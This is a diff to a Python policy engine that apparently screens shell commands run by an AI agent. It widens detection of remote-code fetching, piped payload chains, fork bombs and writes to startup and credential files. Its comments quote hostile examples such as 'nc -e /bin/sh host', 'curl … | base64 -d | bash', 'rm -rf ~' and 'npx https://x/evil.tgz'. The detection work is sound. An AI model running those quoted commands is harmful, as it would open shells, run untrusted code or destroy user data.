@@ -71,7 +71,7 @@ BLOCK_DEVICE = "<block-device>"  # what a path that names a block device also ma
 SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash", "fish", "csh", "tcsh", "posh", "rbash"})
 INTERPRETERS = frozenset(
     {"python", "python2", "python3", "perl", "ruby", "node", "nodejs", "php", "lua", "deno", "bun", "osascript",
-     "pypy", "pypy3", "ipython", "ipython3", "julia", "R", "Rscript", "pwsh", "powershell", "tclsh", "wish", "guile",
+     "pypy", "pypy3", "ipython", "ipython3", "julia", "R", "Rscript", "pwsh", "powershell", "guile",
      "racket", "sbcl", "clisp", "ghci", "runghc", "irb", "jshell", "groovy", "scala", "kotlinc", "elixir", "iex",
      "erl", "escript", "crystal", "dart", "swift"}
 )  # fmt: skip
@@ -123,7 +123,7 @@ VALUE_OPTIONS: dict[str, frozenset[str]] = {
 VALUE_OPTIONS["gawk"] = VALUE_OPTIONS["mawk"] = VALUE_OPTIONS["nawk"] = VALUE_OPTIONS["awk"]
 VALUE_OPTIONS["podman"] = VALUE_OPTIONS["docker"]
 VALUE_OPTIONS["egrep"] = VALUE_OPTIONS["fgrep"] = VALUE_OPTIONS["grep"]
-SINGLE_DASH_LONG = frozenset({"find"})
+SINGLE_DASH_LONG = frozenset({"find", "openssl"})
 # Paths that name a block device (what the kernel says decides too, for paths that exist here).
 BLOCK_DEVICE_NAMES = (
     "/dev/sd*", "/dev/hd*", "/dev/vd*", "/dev/xvd*", "/dev/nvme*", "/dev/mmcblk*", "/dev/disk/**", "/dev/loop*",
@@ -150,6 +150,12 @@ CODE_FILE_OPTIONS: dict[str, frozenset[str]] = {
     "expect": frozenset({"f"}),
     "m4": frozenset(),
     "dc": frozenset({"f", "file"}),
+    "ninja": frozenset({"f"}),
+    "cmake": frozenset({"P"}),
+    "just": frozenset({"f", "justfile"}),
+    "scons": frozenset({"f", "file", "makefile", "sconstruct"}),
+    "ant": frozenset({"f", "file", "buildfile"}),
+    "tcc": frozenset({"run"}),
 }
 for _alias, _base in (("gawk", "awk"), ("mawk", "awk"), ("nawk", "awk"), ("busybox-awk", "awk"), ("gmake", "make"),
                       ("bmake", "make"), ("nvim", "vim"), ("vi", "vim"), ("ex", "vim"), ("view", "vim"),
@@ -177,8 +183,10 @@ _EXACT_LONGS: dict[str, frozenset[str]] = {name: frozenset({"pre", "user", "no-d
 # Programs whose command language, read from stdin, has a way to run a shell command.
 STDIN_LANGUAGES = frozenset(
     {"sqlite3", "sqlite", "ed", "red", "gdb", "cgdb", "psql", "mysql", "mariadb", "sftp", "ftp", "lftp", "expect",
-     "script", "tclsh", "wish", "dc"}
+     "script", "tclsh", "wish", "dc", "duckdb", "gnuplot", "lldb", "smbclient", "octave", "maxima"}
 )  # fmt: skip
+_DOWNLOAD_REDIRECT = re.compile(r"\b(?:curl|wget|aria2c|http|fetch)\b[^|;&\n]*?>>?\s*['\"]?([^\s'\";&|]+)")
+_URL_RUNNERS = frozenset({"deno", "bun", "npx", "pnpx", "bunx", "uvx", "pipx", "go", "java", "jbang", "tcc"})
 _SIGNALLERS = frozenset({"kill", "killall", "pkill", "skill", "snice"})
 
 
@@ -209,8 +217,17 @@ _WRITERS: dict[str, _Writes] = {
     "sed": _Writes((), "all", 1, ("i", "in-place"), frozenset({"e", "f", "expression", "file", "l"})),
     "perl": _Writes((), "all", 0, ("i",), frozenset({"I", "M", "m", "e", "E"})),
     "curl": _Writes(("o", "output"), values=frozenset({"o", "output"})),
-    "wget": _Writes(("O", "output-document"), values=frozenset({"O", "output-document"})),
+    "wget": _Writes(
+        ("O", "output-document", "P", "directory-prefix"),
+        values=frozenset({"O", "output-document", "P", "directory-prefix"}),
+    ),
     "tar": _Writes(("C", "directory"), values=frozenset({"C", "directory", "f", "file"}), into_home=True),
+    "sort": _Writes(("o", "output"), values=frozenset({"o", "output", "k", "t", "S", "T"})),
+    "openssl": _Writes(("out",), values=frozenset({"out", "in", "k", "pass", "passin", "passout"})),
+    "gpg": _Writes(("o", "output"), values=frozenset({"o", "output", "r", "recipient", "u", "local-user"})),
+    "patch": _Writes(("o", "output"), "all", values=frozenset({"o", "output", "p", "i", "input", "d", "directory"})),
+    "xxd": _Writes((), "last", values=frozenset({"c", "g", "l", "s", "o", "n"})),
+    "split": _Writes((), "last", values=frozenset({"a", "b", "C", "l", "n", "t"})),
     "unzip": _Writes(("d",), values=frozenset({"d"}), into_home=True),
 }  # fmt: skip
 _COPIERS = frozenset(_WRITERS)
@@ -383,7 +400,8 @@ SYSTEM_FILES = (
     "/var/lib/**", "/var/spool/**", "~/.bashrc", "~/.bash_profile", "~/.bash_login", "~/.bash_logout",
     "~/.bash_history", "~/.profile", "~/.zshrc", "~/.zshenv", "~/.zprofile", "~/.zlogin", "~/.ssh/**",
     "~/.config/autostart/**", "~/.config/systemd/**", "~/.gitconfig", "~/.config/git/**", "~/.local/bin/**",
-    "~/.config/fish/**", "~/.bashrc.d/**", "~/.config/environment.d/**",
+    "~/.config/fish/**", "~/.bashrc.d/**", "~/.config/environment.d/**", "~/.local/lib/**", "~/.vimrc", "~/.vim/**",
+    "~/.config/nvim/**", "~/.pythonrc", "~/.pythonstartup", "~/.config/pip/**", "~/.pip/**", "/opt/**",
 )  # fmt: skip
 
 
@@ -530,6 +548,8 @@ class _Expander:
             return
         parsed: Parsed = parse(source)
         self.fetches = self.fetches or _FETCHES.search(source) is not None
+        for found in _DOWNLOAD_REDIRECT.finditer(source):  # `curl -s URL > i.sh; bash i.sh`
+            self.downloaded.add(posixpath.normpath(found.group(1)))
         self.redirects.extend(parsed.redirects)
         for redirect in parsed.redirects:
             target = redirect.target.static
@@ -558,6 +578,9 @@ class _Expander:
         if _SPAWNS_FOREVER.search(source):
             self.finding("fork-bomb", "an endless loop starts a background process each time round")
         for command in parsed.commands:
+            if command.words and command.words[0].value == "exec" and len(command.words) == 1:
+                # `exec <<< '…'; bash`: exec with only redirections gives the rest of the line that stdin.
+                feed = _feed_of(command, feed)
             if ifs:
                 command.words = [
                     Word(None, w.raw, split=True) if w.split or w.raw.startswith("$") else w for w in command.words
@@ -642,7 +665,7 @@ class _Expander:
             self.line(f"{self.aliases.pop(program)} {' '.join(w.raw for w in words[1:])}", depth + 1, feed)
             return
         if program in ("cd", "pushd"):
-            target = argv[1:2]
+            target = [a for a in argv[1:] if a not in ("-P", "-L", "-e", "-@", "--")][:1]
             # Only the places plainly outside any project: home, /, .., -, the system's own directories (an agent's
             # `cd /testbed && …` names its project, which this layer may not know as a root).
             self.moved = self.moved or not target or _plainly_outside(target[0])
@@ -652,6 +675,9 @@ class _Expander:
         if program in _COPIERS:
             self._destination(program, argv)
         self._downloads(program, argv)
+        if program in _URL_RUNNERS and any(a.startswith(("http://", "https://")) for a in argv[1:]):
+            # Threat: `deno run -A https://…`, `npx https://x/evil.tgz`: code fetched and run as it arrives.
+            self.finding("remote-code", f"{program} runs code from a URL")
         for inner_text in option_commands(_interpreter_name(program) or program, rest):
             # `nc -e /bin/sh host`: the shell's stdin is the connection, so its script comes from elsewhere.
             self._inner(program, inner_text, depth, Feed("pipe") if program in NETWORK_FED else feed)
@@ -743,6 +769,19 @@ class _Expander:
             destinations += parsed.positionals[0 if scripted else spec.skip :]  # sed's script is its first operand
         if program == "dd":
             destinations += [a.partition("=")[2] for a in argv[1:] if a.startswith("of=")]
+        if spec.operands == "last" and destinations and program in ("cp", "mv", "install", "ln"):
+            # `cp -t ~ .bashrc`, `cp .bashrc ~`: a directory destination receives the sources by their names.
+            sources = (
+                parsed.positionals
+                if parsed.values_of("t") or parsed.values_of("target-directory")
+                else parsed.positionals[:-1]
+            )
+            destinations += [
+                posixpath.join(d, posixpath.basename(src))
+                for d in list(destinations)
+                for src in sources
+                if _DYNAMIC not in (src, d)
+            ]
         for destination in destinations:
             if spec.into_home and destination != _DYNAMIC and normalize_path(destination) in ("~", self.home_path):
                 self.finding("system-write", f"{program} writes into the home directory itself ({destination})")
@@ -824,6 +863,8 @@ class _Expander:
                 self.finding("remote-code", f"{program} runs code fetched from the network")
         if given:
             joined = " ".join(c for c in code)
+            if _FETCH_AND_RUN.search(joined):
+                self.finding("remote-code", f"{program} code fetches code from the network and runs it")
             if _RUNS_INPUT_LINES.search(joined):
                 # `perl -ne 'system $_'`: each line of its stdin is a command line.
                 self._program_text("shell", feed, lambda text: self.line(text, depth + 1), "a shell script")
@@ -864,9 +905,12 @@ class _Expander:
             self.finding("script-from-data", f"{what} read from a file on stdin is run")
         elif feed.kind == "pipe":
             upstream = feed.upstream
-            self._printed_code(
-                upstream.text if upstream is not None else "", f"{what} piped in by another command is run"
-            )
+            chain: list[str] = []
+            while upstream is not None and len(chain) < 32:  # `curl … | base64 -d | bash`: any stage fetching
+                chain.append(upstream.text)
+                upstream = upstream.upstream
+            upstream = feed.upstream
+            self._printed_code(" | ".join(reversed(chain)), f"{what} piped in by another command is run")
             head = upstream.words[0].value if upstream is not None and upstream.words else None
             if upstream is not None and head in ("echo", "printf") and all(w.value for w in upstream.words[1:]):
                 # `echo 'rm -rf ~' | sh`: the text is in the line; judge it too.
@@ -979,8 +1023,8 @@ class _Expander:
                 if value[0] == "-" and "c" in value[1:]:
                     script = rest[i + 1] if i + 1 < len(rest) else Word("", "")
                     break
-                if value[1:] in ("o", "O") and i + 1 < len(rest):
-                    i += 2
+                if value[-1] in ("o", "O") and i + 1 < len(rest):
+                    i += 2  # -o NAME, and a cluster ending in it: `bash -eo pipefail`
                     continue
                 i += 1
                 continue
@@ -1125,7 +1169,7 @@ SOURCED_SETUP = (
 
 
 # Code that forks in a loop: `perl -e 'fork while fork'`, `python -c 'while 1: os.fork()'`, `ruby -e 'loop{fork}'`.
-_FORK_LOOP = r"(\bwhile\b|\bloop\b|\bfor\s*\(\s*;\s*;|\buntil\b|\brepeat\b).*\bfork\b|\bfork\b.*\b(while|until)\b"
+_FORK_LOOP = r"(\bwhile\b|\bloop\b|\bfor\s*\(\s*;\s*;|\buntil\b|\brepeat\b).*\w*fork\b|\w*fork\b.*\b(while|until)\b"
 # ... or over and over by other means: `perl -e '{fork; redo}'`, `goto`, `retry`, `1.times`, `.each`, a function that
 # calls itself after forking.
 _FORK_AGAIN = (
@@ -1221,12 +1265,21 @@ def _interpreter_input(name: str, words: Sequence[Word]) -> tuple[bool, Word | N
 # Code that runs what it reads from stdin: exec(sys.stdin.read()), eval(input()), perl -ne 'system $_' …
 _EVALUATES_STDIN = re.compile(
     r"\b(?:exec|eval|system|spawn|execSync|popen)\b.{0,80}(?:stdin|input\s*\(|readFileSync\s*\(\s*0|<STDIN>|STDIN|"
-    r"\$_\b|\$stdin|ARGF|gets\b|readline)|(?:^|[;{\s])(?:system|exec|eval)\s*\(?\s*\$_\b",
+    r"\$_\b|\$stdin|ARGF|gets\b|readline|open\s*\(\s*0\b|/dev/stdin)|(?:^|[;{\s])(?:system|exec|eval)\s*\(?\s*\$_\b",
     re.DOTALL,
 )
 
 
 _RUNS_INPUT_LINES = re.compile(r"(?:^|[;{\s(])(?:system|exec|qx|`)\s*\(?\s*\$_\b|os\.system\s*\(\s*line\b")
+
+
+# Code that fetches code and runs it: exec(urlopen(…).read()), eval get(…), eval(file_get_contents("https://…")).
+_FETCH_AND_RUN = re.compile(
+    r"\b(?:exec|eval|then\s*\(\s*eval)\b.{0,160}\b(?:urlopen|urllib|requests\.get|httpx|get\s*\(|URI\.open|open-uri|"
+    r"Net::HTTP|fetch\s*\(|file_get_contents\s*\(\s*['\"]https?:|https?://)"
+    r"|\b(?:urlopen|requests\.get|URI\.open|fetch\s*\(|file_get_contents\s*\(\s*['\"]https?:).{0,160}\b(?:exec|eval)\b",
+    re.DOTALL,
+)
 
 
 def _evaluates_stdin(code: str) -> bool:
@@ -1422,8 +1475,8 @@ class PolicyEngine:
                 if not self.home:
                     return True
                 path = self.home + path[1:]
-            if path == ".." or path.startswith("../"):
-                return True
+            if path == ".." or path.startswith(("../", "~-", "~+/..")):
+                return True  # ~- is the previous directory: anywhere
             if moved and not path.startswith("/"):
                 return True
             if (
